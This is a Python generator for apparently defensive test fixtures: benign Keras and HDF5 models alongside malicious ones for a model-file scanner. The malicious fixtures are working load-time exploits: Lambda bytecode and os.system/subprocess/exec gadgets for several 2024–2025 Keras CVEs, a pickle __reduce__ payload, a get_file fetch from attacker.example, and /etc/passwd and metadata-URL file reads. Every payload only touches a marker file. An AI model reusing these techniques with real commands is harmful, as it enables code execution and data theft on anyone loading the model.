#!/usr/bin/python3
"""Generates the Keras fixtures in tests/testdata/keras/ and their manifest.json.

Keras and TensorFlow are not in Debian, so files are built by the format: a .keras archive is a
zip with config.json, metadata.json and model.weights.h5 (h5py); a legacy Keras 2 .h5 model is an
HDF5 file with root attributes model_config / training_config / keras_version / backend and a
model_weights group (h5py). Configs follow what Keras 3.x (and tf.keras 2.x for .h5) write.

Malicious payloads only run `touch aigis_pwned_marker`; nothing here is ever loaded by the tests.
Deterministic: fixed zip timestamps, sorted JSON keys where Keras sorts them, no random weights.

Usage: /usr/bin/python3 tests/testdata/keras/gen/make_keras_fixtures.py   (needs python3-h5py;
python3-torch for the TorchModuleWrapper fixture)
"""

import codecs
import io
import json
import marshal
import os
import pickle
import sys
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.dirname(HERE)
MARKER_CMD = "touch aigis_pwned_marker"
ZIP_DATE = (2025, 1, 1, 0, 0, 0)

MANIFEST = []


# --------------------------------------------------------------------------------------------
# Keras 3 config building blocks


def dtype_policy(name="float32"):
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": name},
            "registered_name": None}


def initializer(cls, config=None):
    return {"module": "keras.initializers", "class_name": cls, "config": config or {},
            "registered_name": None}


def layer(cls, name, config, build_shape=None, inbound=None):
    cfg = {"name": name, "trainable": True, "dtype": dtype_policy()}
    cfg.update(config)
    obj = {"module": "keras.layers", "class_name": cls, "config": cfg, "registered_name": None}
    if build_shape is not None:
        obj["build_config"] = {"input_shape": build_shape}
    if inbound is not None:
        obj["name"] = name
        obj["inbound_nodes"] = inbound
    return obj


def input_layer(name, shape, functional=False):
    obj = {"module": "keras.layers", "class_name": "InputLayer",
           "config": {"batch_shape": [None] + shape, "dtype": "float32", "sparse": False,
                      "name": name},
           "registered_name": None}
    if functional:
        obj["name"] = name
        obj["inbound_nodes"] = []
    return obj


def dense(name, units, activation="relu", build_shape=None, inbound=None):
    return layer("Dense", name, {
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": initializer("GlorotUniform", {"seed": None}),
        "bias_initializer": initializer("Zeros"),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_shape, inbound)


def node(from_layer, shape):
    return [{"args": [{"class_name": "__keras_tensor__",
                       "config": {"shape": [None] + shape, "dtype": "float32",
                                  "keras_history": [from_layer, 0, 0]}}],
             "kwargs": {}}]


def compile_config():
    return {"optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                          "config": {"name": "adam", "learning_rate": 0.001, "weight_decay": None,
                                     "clipnorm": None, "global_clipnorm": None, "clipvalue": None,
                                     "use_ema": False, "ema_momentum": 0.99,
                                     "ema_overwrite_frequency": None, "loss_scale_factor": None,
                                     "gradient_accumulation_steps": None, "beta_1": 0.9,
                                     "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False},
                          "registered_name": None},
            "loss": "mean_squared_error", "loss_weights": None, "metrics": ["mae"],
            "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1,
            "jit_compile": False}


def sequential(name, layers, input_dim, compiled=True):
    cfg = {"module": "keras", "class_name": "Sequential",
           "config": {"name": name, "trainable": True, "dtype": dtype_policy(), "layers": layers,
                      "build_input_shape": [None] + input_dim},
           "registered_name": None, "build_config": {"input_shape": [None] + input_dim}}
    if compiled:
        cfg["compile_config"] = compile_config()
    return cfg


def functional(name, layers, inputs, outputs):
    return {"module": "keras", "class_name": "Functional",
            "config": {"name": name, "trainable": True, "layers": layers,
                       "input_layers": [[i, 0, 0] for i in inputs],
                       "output_layers": [[o, 0, 0] for o in outputs]},
            "registered_name": "Functional", "build_config": {"input_shape": None},
            "compile_config": compile_config()}


def payload_code_b64():
    """Keras func_dump(): marshal of the code object, base64 with newlines (codecs)."""
    fn = eval("lambda x: __import__('os').system('" + MARKER_CMD + "') or x")
    return codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")


def lambda3(name, inbound=None):
    """Keras 3 Lambda layer: function = {"class_name": "__lambda__", ...}."""
    return layer("Lambda", name, {
        "function": {"class_name": "__lambda__",
                     "config": {"code": payload_code_b64(), "defaults": None, "closure": None}},
        "arguments": {}}, None, inbound)


# --------------------------------------------------------------------------------------------
# Writers


def weights_h5(layer_shapes):
    """model.weights.h5 as Keras 3 lays it out: /layers/<name>/vars/<i>."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        layers = f.create_group("layers")
        for lname, shapes in layer_shapes:
            g = layers.create_group(lname).create_group("vars")
            for i, shape in enumerate(shapes):
                g.create_dataset(str(i), data=np.zeros(shape, dtype=np.float32))
        f.create_group("optimizer").create_group("vars")
        f.create_group("vars")
    return buf.getvalue()


def write_keras(rel, config, weights, expect, technique, rule=None, raw_config=None):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    config_text = raw_config if raw_config is not None else json.dumps(config)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in (("metadata.json", json.dumps(
                                {"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"})),
                           ("config.json", config_text),
                           ("model.weights.h5", weights)):
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    add(rel, expect, technique, rule)


def write_h5(rel, model_config, expect, technique, rule=None, training_config=None,
             extra=None, as_bytes=False, weights=(("dense", [(8, 4), (4,)]),)):
    """Legacy Keras 2 .h5 model (tf.keras save_format='h5')."""
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with h5py.File(path, "w", libver="earliest") as f:
        text = model_config if isinstance(model_config, str) else json.dumps(model_config)
        f.attrs["model_config"] = text.encode("utf-8") if as_bytes else text
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["backend"] = "tensorflow"
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config)
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = np.array([n.encode() for n, _ in weights])
        mw.attrs["backend"] = "tensorflow"
        mw.attrs["keras_version"] = "2.12.0"
        for lname, shapes in weights:
            g = mw.create_group(lname).create_group(lname)
            for i, shape in enumerate(shapes):
                g.create_dataset(("kernel:0", "bias:0")[i % 2], data=np.zeros(shape, np.float32))
        if extra is not None:
            extra(f)
    add(rel, expect, technique, rule)


def add(rel, expect, technique, rule):
    entry = {"file": rel, "expect": expect, "technique": technique}
    if rule:
        entry["rule"] = rule
    MANIFEST.append(entry)


# --------------------------------------------------------------------------------------------
# Keras 2 (tf.keras) config building blocks, for .h5 models


def k2_layer(cls, name, config):
    cfg = {"name": name, "trainable": True, "dtype": "float32"}
    cfg.update(config)
    return {"class_name": cls, "config": cfg}


def k2_dense(name, units):
    return k2_layer("Dense", name, {
        "units": units, "activation": "relu", "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
        "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None})


def k2_lambda(name):
    code = payload_code_b64()
    return k2_layer("Lambda", name, {
        "function": [code, None, None], "function_type": "lambda", "module": "__main__",
        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
        "arguments": {}})


def k2_sequential(layers):
    return {"class_name": "Sequential",
            "config": {"name": "sequential",
                       "layers": [k2_layer("InputLayer", "input_1", {
                           "batch_input_shape": [None, 8], "sparse": False,
                           "ragged": False})] + layers}}


K2_TRAINING = {"loss": "mse", "metrics": [[{"class_name": "MeanMetricWrapper",
                                              "config": {"name": "mae", "dtype": "float32",
                                                         "fn": "mean_absolute_error"}}]],
               "weighted_metrics": None, "loss_weights": None,
               "optimizer_config": {"class_name": "Adam",
                                    "config": {"name": "Adam", "learning_rate": 0.001,
                                               "decay": 0.0, "beta_1": 0.9, "beta_2": 0.999,
                                               "epsilon": 1e-07, "amsgrad": False}}}


# --------------------------------------------------------------------------------------------
# The fixtures


def benign():
    w_dense = weights_h5([("dense", [(16, 32), (32,)]), ("dense_1", [(32, 1), (1,)])])
    write_keras("benign/sequential_dense.keras",
                sequential("sequential", [input_layer("input_layer", [16]),
                                          dense("dense", 32, build_shape=[None, 16]),
                                          layer("Dropout", "dropout", {"rate": 0.2, "seed": None,
                                                                       "noise_shape": None}),
                                          dense("dense_1", 1, "linear", [None, 32])], [16]),
                w_dense, "clean", "Sequential Dense/Dropout/Dense, compiled with Adam")

    conv = layer("Conv2D", "conv2d", {
        "filters": 8, "kernel_size": [3, 3], "strides": [1, 1], "padding": "valid",
        "data_format": "channels_last", "dilation_rate": [1, 1], "groups": 1,
        "activation": "relu", "use_bias": True,
        "kernel_initializer": initializer("GlorotUniform", {"seed": None}),
        "bias_initializer": initializer("Zeros"), "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, [None, 28, 28, 1], node("input_layer", [28, 28, 1]))
    bn = layer("BatchNormalization", "batch_normalization", {
        "axis": -1, "momentum": 0.99, "epsilon": 0.001, "center": True, "scale": True,
        "beta_initializer": initializer("Zeros"), "gamma_initializer": initializer("Ones"),
        "moving_mean_initializer": initializer("Zeros"),
        "moving_variance_initializer": initializer("Ones"), "beta_regularizer": None,
        "gamma_regularizer": None, "beta_constraint": None, "gamma_constraint": None,
        "synchronized": False}, [None, 26, 26, 8], node("conv2d", [26, 26, 8]))
    flat = layer("Flatten", "flatten", {"data_format": "channels_last"}, None,
                 node("batch_normalization", [26, 26, 8]))
    out = dense("dense", 10, "softmax", [None, 5408], node("flatten", [5408]))
    write_keras("benign/functional_cnn.keras",
                functional("functional", [input_layer("input_layer", [28, 28, 1], True), conv,
                                          bn, flat, out], ["input_layer"], ["dense"]),
                weights_h5([("conv2d", [(3, 3, 1, 8), (8,)]),
                            ("batch_normalization", [(8,), (8,), (8,), (8,)]),
                            ("dense", [(5408, 10), (10,)])]),
                "clean", "Functional Conv2D/BatchNormalization/Flatten/Dense")

    emb = layer("Embedding", "embedding", {
        "input_dim": 1000, "output_dim": 16,
        "embeddings_initializer": initializer("RandomUniform",
                                              {"minval": -0.05, "maxval": 0.05, "seed": None}),
        "embeddings_regularizer": None, "activity_regularizer": None,
        "embeddings_constraint": None, "mask_zero": True, "lora_rank": None}, [None, 20])
    lstm = layer("LSTM", "lstm", {
        "return_sequences": False, "return_state": False, "go_backwards": False,
        "stateful": False, "unroll": False, "zero_output_for_mask": False, "units": 32,
        "activation": "tanh", "recurrent_activation": "sigmoid", "use_bias": True,
        "kernel_initializer": initializer("GlorotUniform", {"seed": None}),
        "recurrent_initializer": initializer("OrthogonalInitializer", {"gain": 1.0, "seed": None}),
        "bias_initializer": initializer("Zeros"), "unit_forget_bias": True,
        "dropout": 0.0, "recurrent_dropout": 0.0, "seed": None}, [None, 20, 16])
    write_keras("benign/sequential_embedding_lstm.keras",
                sequential("sequential", [input_layer("input_layer", [20]), emb, lstm,
                                          dense("dense", 1, "sigmoid", [None, 32])], [20]),
                weights_h5([("embedding", [(1000, 16)]), ("lstm", [(16, 128), (32, 128), (128,)]),
                            ("dense", [(32, 1), (1,)])]),
                "clean", "Sequential Embedding/LSTM/Dense")

    # Inline vocabularies: tokens that look like paths or URLs are tokens, not files.
    lookup = layer("StringLookup", "string_lookup", {
        "max_tokens": None, "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
        "vocabulary": ["cat", "dog", "/", "/usr", "http://", "../"],
        "vocabulary_dtype": "string", "idf_weights": None, "invert": False,
        "output_mode": "int", "sparse": False, "pad_to_max_tokens": False, "encoding": "utf-8"})
    lookup["config"]["dtype"] = "int64"
    vec = layer("TextVectorization", "text_vectorization", {
        "max_tokens": None, "standardize": "lower_and_strip_punctuation", "split": "whitespace",
        "ngrams": None, "output_mode": "int", "output_sequence_length": 8,
        "pad_to_max_tokens": False, "sparse": False, "ragged": False,
        "vocabulary": ["", "[UNK]", "the", "model", "https://example.com"],
        "idf_weights": None, "encoding": "utf-8", "vocabulary_size": 5})
    write_keras("benign/string_lookup_inline_vocab.keras",
                sequential("sequential", [input_layer("input_layer", [1]), lookup], [1],
                           compiled=False),
                weights_h5([]), "clean", "StringLookup with an inline vocabulary list")
    write_keras("benign/text_vectorization_inline_vocab.keras",
                sequential("sequential", [input_layer("input_layer", [1]), vec], [1],
                           compiled=False),
                weights_h5([]), "clean", "TextVectorization with an inline vocabulary list")

    inner = sequential("inner", [input_layer("input_layer_1", [8]),
                                 dense("dense_inner", 8, build_shape=[None, 8])], [8],
                       compiled=False)
    td = layer("TimeDistributed", "time_distributed",
               {"layer": dense("dense_td", 4, build_shape=[None, 8])}, [None, 5, 8])
    bi = layer("Bidirectional", "bidirectional", {
        "merge_mode": "concat",
        "layer": layer("LSTM", "forward_lstm", {"units": 4, "return_sequences": True}),
        "backward_layer": layer("LSTM", "backward_lstm", {"units": 4, "return_sequences": True,
                                                          "go_backwards": True})}, [None, 5, 4])
    write_keras("benign/nested_sequential_wrappers.keras",
                sequential("outer", [input_layer("input_layer", [5, 8]), td, bi], [5, 8]),
                weights_h5([("time_distributed", [(8, 4), (4,)])]),
                "clean", "nested Sequential, TimeDistributed(Dense), Bidirectional(LSTM)")
    write_keras("benign/functional_with_submodel.keras",
                functional("functional", [input_layer("input_layer", [8], True),
                                          dict(inner, name="inner",
                                               inbound_nodes=node("input_layer", [8])),
                                          dense("dense", 2, "softmax", [None, 8],
                                                node("inner", [8]))],
                           ["input_layer"], ["dense"]),
                weights_h5([("inner", [(8, 8), (8,)]), ("dense", [(8, 2), (2,)])]),
                "clean", "Functional model using a nested Sequential sub-model")

    # Python json writes NaN/Infinity; a benign config with them must still parse.
    nan_cfg = sequential("sequential", [input_layer("input_layer", [4]),
                                        layer("Masking", "masking", {"mask_value": float("nan")}),
                                        dense("dense", 1, "linear", [None, 4])], [4],
                         compiled=False)
    write_keras("benign/masking_nan.keras", nan_cfg, weights_h5([("dense", [(4, 1), (1,)])]),
                "clean", "Masking(mask_value=NaN): Python's json writes a bare NaN token")

    write_h5("benign/legacy_sequential.h5", k2_sequential([k2_dense("dense", 4)]), "clean",
             "tf.keras 2 Sequential saved as .h5 (model_config str attribute)",
             training_config=K2_TRAINING)
    write_h5("benign/legacy_sequential_bytes_attr.h5", k2_sequential([k2_dense("dense", 4)]),
             "clean", "Keras 2 .h5 whose model_config is a fixed-length bytes attribute",
             as_bytes=True)
    # TF 2.13+ writes module/registered_name even in .h5 configs.
    k213 = k2_sequential([k2_dense("dense", 4)])
    for lyr in k213["config"]["layers"]:
        lyr["module"] = "keras.layers"
        lyr["registered_name"] = None
    k213["module"] = "keras"
    k213["registered_name"] = None
    write_h5("benign/legacy_tf213_modules.h5", k213, "clean",
             "tf.keras 2.13 .h5 config with module/registered_name fields")

    path = os.path.join(OUT, "benign/plain_weights.h5")
    with h5py.File(path, "w") as f:
        f.create_dataset("layers/dense/vars/0", data=np.zeros((4, 2), np.float32))
        f.create_dataset("layers/dense/vars/1", data=np.zeros((2,), np.float32))
    add("benign/plain_weights.h5", "clean", "plain HDF5 weights file (no model_config)", None)


def malicious():
    w = weights_h5([("dense", [(8, 1), (1,)])])

    # Keras 3 Lambda: top level and nested in every container Keras has.
    write_keras("malicious/k3_lambda_toplevel.keras",
                functional("functional", [input_layer("input_layer", [8], True),
                                          lambda3("lambda", node("input_layer", [8])),
                                          dense("dense", 1, "linear", [None, 8],
                                                node("lambda", [8]))],
                           ["input_layer"], ["dense"]),
                w, "malicious", "Keras 3 __lambda__ marshalled bytecode in a Functional model",
                "keras.lambda")
    inner = sequential("inner", [input_layer("input_layer_1", [8]), lambda3("lambda")], [8],
                       compiled=False)
    write_keras("malicious/k3_lambda_nested_sequential.keras",
                sequential("outer", [input_layer("input_layer", [8]), inner,
                                     dense("dense", 1, "linear", [None, 8])], [8]),
                w, "malicious", "Lambda inside a nested Sequential (modelscan bypass PoC)",
                "keras.lambda")
    write_keras("malicious/k3_lambda_timedistributed.keras",
                sequential("sequential", [input_layer("input_layer", [5, 8]),
                                          layer("TimeDistributed", "time_distributed",
                                                {"layer": lambda3("lambda")}, [None, 5, 8])],
                           [5, 8]),
                w, "malicious", "Lambda as TimeDistributed.layer (modelscan bypass PoC)",
                "keras.lambda")
    write_keras("malicious/k3_lambda_bidirectional.keras",
                sequential("sequential", [input_layer("input_layer", [5, 8]),
                                          layer("Bidirectional", "bidirectional", {
                                              "merge_mode": "concat",
                                              "layer": layer("LSTM", "forward_lstm",
                                                             {"units": 4}),
                                              "backward_layer": lambda3("backward")},
                                                [None, 5, 8])], [5, 8]),
                w, "malicious", "Lambda hidden as Bidirectional.backward_layer", "keras.lambda")
    sub = functional("sub", [input_layer("sub_input", [8], True),
                             lambda3("lambda", node("sub_input", [8]))],
                     ["sub_input"], ["lambda"])
    sub.pop("compile_config")
    write_keras("malicious/k3_lambda_functional_submodel.keras",
                functional("functional", [input_layer("input_layer", [8], True),
                                          dict(sub, name="sub",
                                               inbound_nodes=node("input_layer", [8])),
                                          dense("dense", 1, "linear", [None, 8],
                                                node("sub", [8]))],
                           ["input_layer"], ["dense"]),
                w, "malicious", "Lambda inside a Functional sub-model", "keras.lambda")
    ser = layer("Lambda", "lambda", {
        "function": {"class_name": "__lambda__",
                     "config": {"value": [payload_code_b64(), None, None]}},
        "arguments": {}})
    write_keras("malicious/k3_lambda_value_form.keras",
                sequential("sequential", [input_layer("input_layer", [8]), ser], [8]),
                w, "malicious", "__lambda__ as serialize_keras_object writes it (config.value)",
                "keras.lambda")

    # CVE-2025-1550: module + class_name name any Python callable (Keras < 3.9 imports it).
    gadget = dense("dense", 1, {"module": "os", "class_name": "function", "config": "system",
                                "registered_name": "function"}, [None, 8])
    write_keras("malicious/cve_2025_1550_os_system_function.keras",
                sequential("sequential", [input_layer("input_layer", [8]), gadget], [8]),
                w, "malicious", "CVE-2025-1550: activation = function object os.system",
                "keras.module.denied")
    popen = {"module": "subprocess", "class_name": "Popen",
             "config": {"args": ["sh", "-c", MARKER_CMD]}, "registered_name": None}
    write_keras("malicious/cve_2025_1550_subprocess_class.keras",
                sequential("sequential", [input_layer("input_layer", [8]), popen], [8]),
                w, "malicious", "CVE-2025-1550: layer object module=subprocess class=Popen",
                "keras.module.denied")
    builtins_exec = dense("dense", 1, "linear", [None, 8])
    builtins_exec["config"]["kernel_initializer"] = {
        "module": "builtins", "class_name": "function", "config": "exec",
        "registered_name": "function"}
    write_keras("malicious/cve_2025_1550_builtins_exec.keras",
                sequential("sequential", [input_layer("input_layer", [8]), builtins_exec], [8]),
                w, "malicious", "CVE-2025-1550: initializer = builtins.exec", "keras.module.denied")
    unknown = dense("dense", 1, "linear", [None, 8])
    unknown["module"] = "evil_pkg.layers"
    unknown["registered_name"] = "evil_pkg>Dense"
    write_keras("malicious/unknown_module.keras",
                sequential("sequential", [input_layer("input_layer", [8]), unknown], [8]),
                w, "suspicious", "layer from a module outside the Keras allow-list",
                "keras.module.unknown")
    custom = dense("dense", 1, "linear", [None, 8])
    custom["registered_name"] = "MyPackage>CustomDense"
    write_keras("malicious/registered_custom_object.keras",
                sequential("sequential", [input_layer("input_layer", [8]), custom], [8]),
                w, "suspicious", "registered custom object (user code runs on load)",
                "keras.custom-object")

    # CVE-2025-8747: gadget inside the Keras namespace.
    get_file = dense("dense", 1, {"module": "keras.utils", "class_name": "function",
                                  "config": "get_file", "registered_name": "function"},
                     [None, 8])
    write_keras("malicious/cve_2025_8747_get_file.keras",
                sequential("sequential", [input_layer("input_layer", [8]), get_file], [8]),
                w, "malicious", "CVE-2025-8747: keras.utils.get_file as a function object",
                "keras.module.denied")
    get_file_src = {"module": "keras.src.utils.file_utils", "class_name": "get_file",
                    "config": {"fname": "x", "origin": "https://attacker.example/payload.tar.gz",
                               "extract": True, "cache_dir": "/tmp"},
                    "registered_name": None}
    write_keras("malicious/cve_2025_8747_get_file_src.keras",
                sequential("sequential", [input_layer("input_layer", [8]), get_file_src], [8]),
                w, "malicious", "CVE-2025-8747: keras.src.utils.file_utils.get_file with origin",
                "keras.module.denied")
    load_model = {"module": "keras.models", "class_name": "function", "config": "load_model",
                  "registered_name": "function"}
    lm_layer = dense("dense", 1, load_model, [None, 8])
    lm_layer["config"]["safe_mode"] = False
    write_keras("malicious/load_model_safe_mode_false.keras",
                sequential("sequential", [input_layer("input_layer", [8]), lm_layer], [8]),
                w, "malicious", "keras.models.load_model gadget with safe_mode: false",
                "keras.module.denied")

    # CVE-2025-9906: enable_unsafe_deserialization first, then a Lambda.
    enable = {"module": "keras.config", "class_name": "function",
              "config": "enable_unsafe_deserialization", "registered_name": "function"}
    write_keras("malicious/cve_2025_9906_unsafe_then_lambda.keras",
                sequential("sequential", [input_layer("input_layer", [8]),
                                          dense("dense", 8, enable, [None, 8]),
                                          lambda3("lambda")], [8]),
                w, "malicious",
                "CVE-2025-9906: keras.config.enable_unsafe_deserialization() then a Lambda",
                "keras.safe-mode-disable")
    enable_src = {"module": "keras.src.saving.serialization_lib", "class_name": "function",
                  "config": "enable_unsafe_deserialization", "registered_name": "function"}
    write_keras("malicious/cve_2025_9906_unsafe_only.keras",
                sequential("sequential", [input_layer("input_layer", [8]),
                                          dense("dense", 8, enable_src, [None, 8])], [8]),
                w, "malicious", "CVE-2025-9906: enable_unsafe_deserialization via keras.src",
                "keras.safe-mode-disable")

    # CVE-2025-49655: TorchModuleWrapper with a torch.save() payload (pickle with __reduce__).
    try:
        import torch  # noqa: F401
        have_torch = True
    except ImportError:
        have_torch = False
    torch_payload = make_torch_payload(have_torch)
    tmw = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
           "config": {"name": "torch_module_wrapper", "trainable": True,
                      "dtype": dtype_policy(),
                      "module": codecs.encode(torch_payload, "base64").decode("ascii")
                      .replace("\n", "")},
           "registered_name": None}
    write_keras("malicious/cve_2025_49655_torch_module_wrapper.keras",
                sequential("sequential", [input_layer("input_layer", [8]), tmw], [8]),
                w, "malicious",
                "CVE-2025-49655: TorchModuleWrapper with base64 torch.save payload (os.system)",
                "keras.torch-module-wrapper")

    # CVE-2025-12058: vocabulary as a file path / URL (tf.io.gfile reads it).
    for rel, vocab, what in (
            ("malicious/cve_2025_12058_vocab_etc_passwd.keras", "/etc/passwd", "local file"),
            ("malicious/cve_2025_12058_vocab_url.keras",
             "http://169.254.169.254/latest/meta-data/", "URL (SSRF)")):
        lk = layer("StringLookup", "string_lookup", {
            "max_tokens": None, "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]",
            "vocabulary": vocab, "vocabulary_dtype": "string", "idf_weights": None,
            "invert": False, "output_mode": "int", "sparse": False, "pad_to_max_tokens": False,
            "encoding": "utf-8"})
        write_keras(rel, sequential("sequential", [input_layer("input_layer", [1]), lk], [1],
                                    compiled=False),
                    weights_h5([]), "suspicious",
                    "CVE-2025-12058: StringLookup vocabulary is a " + what, "keras.file-path")

    # Parser differentials: the Lambda must survive odd but loadable JSON, and broken JSON.
    lam_seq = sequential("sequential", [input_layer("input_layer", [8]), lambda3("lambda")], [8])
    text = json.dumps(lam_seq).replace('"name": "lambda"', '"name": "lambda\\ud800"')
    write_keras("malicious/lambda_lone_surrogate.keras", None, w, "malicious",
                "Lambda in a config with a lone surrogate escape (Python accepts it)",
                "keras.lambda", raw_config=text)
    lam_seq["config"]["layers"][0]["config"]["pad"] = float("inf")
    write_keras("malicious/lambda_with_infinity.keras", lam_seq, w, "malicious",
                "Lambda in a config with a bare Infinity token", "keras.lambda")
    broken = json.dumps(lam_seq)[:-40]
    write_keras("malicious/lambda_truncated_json.keras", None, w, "malicious",
                "Lambda in a config.json that does not parse (raw fallback)", "keras.lambda",
                raw_config=broken)

    # Legacy Keras 2 .h5 (CVE-2024-3660).
    write_h5("malicious/k2_lambda.h5", k2_sequential([k2_lambda("lambda"), k2_dense("dense", 4)]),
             "malicious", "CVE-2024-3660: Keras 2 Lambda (function_type lambda, marshal b64)",
             "keras.lambda")
    write_h5("malicious/k2_lambda_timedistributed.h5",
             k2_sequential([k2_layer("TimeDistributed", "time_distributed",
                                     {"layer": k2_lambda("lambda")})]),
             "malicious", "Keras 2 Lambda nested in TimeDistributed", "keras.lambda")
    fn_layer = k2_layer("Lambda", "lambda", {
        "function": "system", "function_type": "function", "module": "os",
        "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
        "arguments": {}})
    write_h5("malicious/k2_lambda_named_os_system.h5", k2_sequential([fn_layer]), "malicious",
             "Keras 2 Lambda with function_type function: os.system", "keras.lambda")
    nested_model = k2_sequential([k2_lambda("lambda")])
    nested_model["config"]["name"] = "inner"
    write_h5("malicious/k2_lambda_nested_model.h5",
             k2_sequential([nested_model, k2_dense("dense", 4)]), "malicious",
             "Keras 2 Lambda inside a nested Sequential", "keras.lambda")
    bad_training = dict(K2_TRAINING)
    bad_training["loss"] = {"module": "os", "class_name": "function", "config": "system",
                            "registered_name": "function"}
    write_h5("malicious/k2_training_config_gadget.h5", k2_sequential([k2_dense("dense", 4)]),
             "malicious", "training_config loss names os.system", "keras.module.denied",
             training_config=bad_training)

    def external_link(f):
        f["model_weights/leak"] = h5py.ExternalLink("/etc/passwd", "/")

    write_h5("malicious/h5_external_link.h5", k2_sequential([k2_dense("dense", 4)]),
             "suspicious", "HDF5 external link to another file", "hdf5.external-link",
             extra=external_link)

    def external_storage(f):
        f["model_weights/dense/dense"].create_dataset(
            "leak:0", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)])

    write_h5("malicious/h5_external_storage.h5", k2_sequential([k2_dense("dense", 4)]),
             "suspicious", "HDF5 dataset with external raw storage (/etc/passwd)",
             "hdf5.external-storage", extra=external_storage)


class _Payload:
    def __reduce__(self):
        return (os.system, (MARKER_CMD,))


def make_torch_payload(have_torch):
    if have_torch:
        import torch
        buf = io.BytesIO()
        torch.save(_Payload(), buf)
        return buf.getvalue()
    # torch.load(weights_only=False) on a non-zip stream unpickles it: same effect.
    return pickle.dumps(_Payload(), protocol=2)


def main():
    if not sys.version_info >= (3, 8):
        sys.exit("python >= 3.8 needed")
    benign()
    malicious()
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
        f.write("\n")
    print("wrote %d fixtures to %s" % (len(MANIFEST), OUT))


if __name__ == "__main__":
    main()
